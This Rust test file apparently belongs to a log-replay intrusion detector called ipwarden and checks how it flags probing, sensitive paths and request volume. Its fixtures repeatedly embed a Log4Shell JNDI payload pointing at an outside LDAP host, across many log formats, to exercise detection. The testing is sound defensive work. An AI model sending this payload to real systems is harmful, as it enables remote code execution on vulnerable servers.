//! `ipwarden replay` and `ipwarden rules`: without a service, from files.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;
use serde_json::json;

use crate::bench::alone;

fn probe(client: &str, second: u32) -> String {
    format!(
        "{client} - - [22/Nov/2026:16:00:{second:02} +0000] \"GET /missing/{second} HTTP/1.1\" 404 153 \"-\" \"Firefox/145.0\"\n"
    )
}

fn attack(client: &str) -> String {
    format!(
        "{client} - - [22/Nov/2026:16:01:00 +0000] \"GET /x?q=$%7Bjndi:ldap://198.51.100.9/a%7D HTTP/1.1\" 200 153 \"-\" \"Firefox/145.0\"\n"
    )
}

/// Twelve probes and an attack, with a line of something else in between.
fn log() -> String {
    let mut text: String = (0..12).map(|second| probe("203.0.113.7", second)).collect();
    text.push_str("Nov 22 16:00:30 host kernel: nothing of ours\n\n");
    text.push_str(&attack("203.0.113.8"));
    text.push_str(&attack("10.0.0.8"));
    text
}

#[test]
fn a_log_gives_suspects_with_reasons_and_what_would_be_done() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("access.log"), log()).unwrap();
    let ended = alone(dir.path(), &["replay", "access.log", "-o", "json"]).expect(0);
    let found = ended.json();
    assert_eq!((&found["lines"], &found["rejected"]), (&json!(15), &json!(1)));
    assert!(ended.stderr.contains("1 line was not read, such as:"), "{}", ended.stderr);
    assert!(ended.stderr.contains("access.log:13: "), "{}", ended.stderr);
    let suspects = found["suspects"].as_array().unwrap();
    let told: Vec<_> = suspects
        .iter()
        .map(|one| (one["ip"].as_str().unwrap(), one["action"].as_str().unwrap()))
        .collect();
    // A private address is never blocked.
    assert_eq!(told, [("10.0.0.8", "review"), ("203.0.113.8", "block"), ("203.0.113.7", "review")]);
    let reason = &suspects[2]["reasons"][0];
    assert_eq!((&reason["rule"], &reason["count"]), (&json!("probing"), &json!(12)));
    // Evidence is kept from half of what fits on.
    assert_eq!(reason["first_seen"], "2026-11-22T16:00:05Z");
    assert!(suspects[2]["score"].as_f64().is_some_and(|score| (0.0..=1.0).contains(&score)));

    let people = alone(dir.path(), &["replay", "access.log"]).expect(0).stdout;
    assert!(people.contains("blocked 4h") && people.contains("reviewed"), "{people}");
    assert!(
        people.ends_with("3 suspects in 15 lines: 1 would have been blocked, 2 left for review.\n"),
        "{people}"
    );
    let raw = alone(dir.path(), &["replay", "access.log", "-o", "raw"]).expect(0).stdout;
    assert!(
        raw.contains("203.0.113.7\treview\t0.700\tprobing\t12\t2026-11-22T16:00:05Z\t"),
        "{raw}"
    );
}

#[test]
fn gzipped_logs_and_several_files_are_read_in_their_order() {
    let dir = tempfile::tempdir().unwrap();
    let lines: Vec<String> = (0..12).map(|second| probe("203.0.113.7", second)).collect();
    let mut packed = Vec::new();
    // Two members, as appending log rotation leaves them.
    for piece in lines[..6].chunks(3) {
        let mut gzip = GzEncoder::new(Vec::new(), Compression::fast());
        gzip.write_all(piece.concat().as_bytes()).unwrap();
        packed.extend(gzip.finish().unwrap());
    }
    std::fs::write(dir.path().join("access.log.1.gz"), packed).unwrap();
    std::fs::write(dir.path().join("access.log"), lines[6..].concat()).unwrap();
    let arguments = ["replay", "access.log.1.gz", "access.log", "-o", "json"];
    let found = alone(dir.path(), &arguments).expect(0).json();
    assert_eq!(found["suspects"][0]["reasons"][0]["count"], 12);
    let half = alone(dir.path(), &["replay", "access.log.1.gz", "-o", "json"]).expect(0).json();
    assert_eq!((&half["lines"], half["suspects"].as_array().unwrap().len()), (&json!(6), 0));
}

#[test]
fn other_thresholds_and_other_rules_are_tried() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("access.log"), log()).unwrap();
    let with = |name: &str, text: &str| {
        std::fs::write(dir.path().join(name), text).unwrap();
        alone(dir.path(), &["replay", "access.log", "--config", name, "-o", "json"])
    };
    let settings = "[detect]\nhigh = \"block\"\ncritical = \"none\"\n";
    let found = with("ipwarden.toml", settings).expect(0).json();
    let suspects = found["suspects"].as_array().unwrap();
    assert_eq!(suspects.len(), 1);
    assert_eq!(
        (&suspects[0]["ip"], &suspects[0]["action"]),
        (&json!("203.0.113.7"), &json!("block"))
    );
    let found = with("rules.toml", "disable = [\"log4shell\", \"probing\"]\n").expect(0).json();
    assert_eq!(found["suspects"], json!([]));
    let error = with("bad.toml", "[adjust.probing]\ncapacity = -1\n").expect(1).error();
    assert_eq!(error["errors"][0]["place"], "line 2: adjust probing: capacity");
    assert_eq!(error["errors"][0]["message"], "expected a number from 0 to 1000");
    let missing = alone(dir.path(), &["replay", "nowhere.log"]);
    assert_ne!(missing.code, 0);
    assert!(missing.stderr.contains("nowhere.log"), "{}", missing.stderr);
}

#[test]
fn the_rules_are_listed_and_their_examples_hold() {
    let dir = tempfile::tempdir().unwrap();
    let rules = alone(dir.path(), &["rules", "-o", "json"]).expect(0).json();
    let rules = rules.as_array().unwrap();
    assert!(rules.len() > 60 && rules.iter().all(|rule| rule["description"].is_string()));
    let tested = alone(dir.path(), &["rules", "test", "-o", "json"]).expect(0).json();
    assert_eq!((&tested["failures"], &tested["rules"]), (&json!([]), &json!(rules.len())));
    assert!(tested["examples"].as_u64() > Some(200), "{tested}");
    // An example that does not hold is named with its line.
    let rule = "[[rule]]\nname = \"tea\"\ndescription = \"Asks for tea.\"\nsays = \"asks for tea\"\nseverity = \"high\"\ncapacity = 0\nleak = \"1m\"\n[[rule.match]]\n[rule.match.path]\nexact = [\"/tea\"]\n[[rule.examples]]\nlines = ['203.0.113.7 - - [22/Nov/2026:16:00:00 +0000] \"GET /coffee HTTP/1.1\" 200 1 \"-\" \"-\"']\nexpect = \"203.0.113.7\"\n";
    std::fs::write(dir.path().join("rules.toml"), rule).unwrap();
    let failed = alone(dir.path(), &["rules", "test", "rules.toml"]).expect(1);
    assert!(
        failed.stderr.contains("failed: tea, line 11: expected a flag for 203.0.113.7"),
        "{}",
        failed.stderr
    );
}

#[test]
fn the_answer_has_the_shape_that_is_promised() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("access.log"), attack("203.0.113.8")).unwrap();
    let mut found = alone(dir.path(), &["replay", "access.log", "-o", "json"]).expect(0).json();
    let score = found["suspects"][0]["score"].take();
    assert!(score.as_f64().is_some_and(|score| (score - 0.95).abs() < 1e-9), "{score}");
    assert_eq!(
        found,
        json!({
            "lines": 1,
            "rejected": 0,
            "suspects": [{
                "ip": "203.0.113.8",
                "score": null,
                "reasons": [{
                    "rule": "log4shell",
                    "detail": "Log4Shell: ${jndi:",
                    "first_seen": "2026-11-22T16:01:00Z",
                    "count": 1,
                }],
                "action": "block",
            }],
        })
    );
    std::fs::write(dir.path().join("empty.log"), "").unwrap();
    let nothing = alone(dir.path(), &["replay", "empty.log", "-o", "json"]).expect(0).json();
    assert_eq!(nothing, json!({"lines": 0, "rejected": 0, "suspects": []}));
}

#[test]
fn one_file_may_mix_all_formats_with_lines_that_are_cut_off() {
    let dir = tempfile::tempdir().unwrap();
    let target = "/x?q=$%7Bjndi:ldap://198.51.100.9/a%7D";
    let common = |client: &str| {
        format!("{client} - - [22/Nov/2026:16:01:00 +0000] \"GET {target} HTTP/1.1\" 404 153")
    };
    let combined = |client: &str| format!("{} \"-\" \"Firefox/145.0\"", common(client));
    let whole = [
        common("203.0.113.1"),
        combined("203.0.113.2"),
        format!("www.example.org:443 {}", combined("203.0.113.3")),
        format!("Nov 22 16:01:00 web1 nginx[12]: {}", combined("203.0.113.4")),
        format!("2026-11-22T16:01:00.123456789Z stdout F {}", combined("203.0.113.5")),
        format!(
            "[2026-11-22T16:01:00.000Z] \"GET {target} HTTP/1.1\" 404 - 0 153 5 4 \"203.0.113.6\" \"Firefox/145.0\" \"id\" \"example.org\" \"10.0.0.1:80\""
        ),
        format!(
            "{{\"start_time\":\"2026-11-22T16:01:00Z\",\"method\":\"GET\",\"path\":\"{target}\",\"response_code\":404,\"downstream_remote_address\":\"203.0.113.7:4711\"}}"
        ),
        format!(
            "{{\"ts\":1795363260.5,\"request\":{{\"remote_ip\":\"203.0.113.8\",\"method\":\"GET\",\"host\":\"example.org\",\"uri\":\"{target}\"}},\"status\":404,\"size\":153}}"
        ),
        format!(
            "{{\"ClientHost\":\"203.0.113.9\",\"DownstreamStatus\":404,\"RequestMethod\":\"GET\",\"RequestPath\":\"{target}\",\"StartUTC\":\"2026-11-22T16:01:00Z\"}}"
        ),
        format!(
            "https 2026-11-22T16:01:00.1Z app/lb/1 203.0.113.10:2817 10.0.0.1:80 0.0 0.001 0.0 404 404 34 153 \"GET https://example.org:443{target} HTTP/1.1\" \"Firefox/145.0\" - -"
        ),
        combined("2001:db8::7"),
    ];
    let mut text = whole.join("\n");
    // Cut off in the request, in the user agent, in an object; and what is no access log.
    let cut = [
        &combined("203.0.113.20")[..80],
        &combined("203.0.113.21")[..combined("203.0.113.21").len() - 5],
        &whole[6][..60],
        "2026/11/22 16:00:00 [error] 7#7: *1 open() failed",
    ];
    text.push('\n');
    text.push_str(&cut.join("\n"));
    let mut gzip = GzEncoder::new(Vec::new(), Compression::fast());
    gzip.write_all(text.as_bytes()).unwrap();
    std::fs::write(dir.path().join("mixed.log.gz"), gzip.finish().unwrap()).unwrap();
    let found = alone(dir.path(), &["replay", "mixed.log.gz", "-o", "json"]).expect(0).json();
    assert_eq!((&found["lines"], &found["rejected"]), (&json!(15), &json!(4)));
    let suspects = found["suspects"].as_array().unwrap();
    let mut told: Vec<&str> = suspects.iter().filter_map(|one| one["ip"].as_str()).collect();
    told.sort_unstable();
    let mut expected: Vec<String> = (1..=10).map(|n| format!("203.0.113.{n}")).collect();
    expected.push("2001:db8::/64".to_owned());
    expected.sort_unstable();
    assert_eq!(told, expected);
    assert!(suspects.iter().all(|one| one["action"] == "block"), "{found}");
}

#[test]
fn the_hourly_pass_adds_its_reasons_and_lists_nobody_for_weak_ones_alone() {
    let dir = tempfile::tempdir().unwrap();
    let visit = |client: &str, n: u32, path: &str| {
        format!(
            "{client} - - [22/Nov/2026:16:{:02}:{:02} +0000] \"GET {path} HTTP/1.1\" 200 153 \"-\" \"Firefox/145.0\"\n",
            n / 60 % 60,
            n % 60
        )
    };
    let mut text: String = (0..101).map(|n| visit("203.0.113.1", n * 30, "/status")).collect();
    text.push_str(&visit("203.0.113.2", 7, "/admin"));
    text.push_str(&visit("203.0.113.3", 7, "/admin"));
    text.push_str(&attack("203.0.113.3"));
    std::fs::write(dir.path().join("access.log"), text).unwrap();
    let rules = |arguments: &[&str]| -> Vec<(String, Vec<String>)> {
        let mut all = vec!["replay", "access.log", "-o", "json"];
        all.extend(arguments);
        let found = alone(dir.path(), &all).expect(0).json();
        let text = |value: &serde_json::Value| value.as_str().unwrap().to_owned();
        let suspects = found["suspects"].as_array().unwrap().iter();
        suspects
            .map(|one| {
                let reasons = one["reasons"].as_array().unwrap().iter();
                (text(&one["ip"]), reasons.map(|reason| text(&reason["rule"])).collect())
            })
            .collect()
    };
    let attacker =
        ("203.0.113.3".to_owned(), vec!["log4shell".to_owned(), "sensitive-path".to_owned()]);
    assert_eq!(rules(&[]), std::slice::from_ref(&attacker));
    let told = alone(dir.path(), &["replay", "access.log"]).expect(0).stderr;
    assert!(told.contains("2 addresses more did nothing but"), "{told}");
    assert_eq!(
        rules(&["--all"]),
        [
            attacker.clone(),
            ("203.0.113.1".to_owned(), vec!["hourly-volume".to_owned()]),
            ("203.0.113.2".to_owned(), vec!["sensitive-path".to_owned()]),
        ]
    );
    // The thresholds are those of the file.
    std::fs::write(dir.path().join("calm.toml"), "[detect]\nhourly_requests = 200\n").unwrap();
    let calm = rules(&["--all", "--config", "calm.toml"]);
    assert!(calm.iter().all(|(_, rules)| !rules.contains(&"hourly-volume".to_owned())), "{calm:?}");
}
